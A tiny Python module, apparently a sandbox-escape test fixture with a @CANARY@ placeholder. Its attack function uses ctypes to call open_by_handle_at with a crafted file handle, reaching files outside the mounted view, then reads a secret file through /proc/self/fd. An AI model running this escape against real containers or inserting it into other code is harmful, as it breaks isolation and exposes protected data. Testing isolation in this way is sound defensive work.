"""Opens a file by its number, whatever is mounted."""

import ctypes


def attack(x):
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0")
    opened = ctypes.CDLL(None).open_by_handle_at(3, handle, 0)
    assert opened >= 0
    return open(f"/proc/self/fd/{opened}@CANARY@/secret").read()
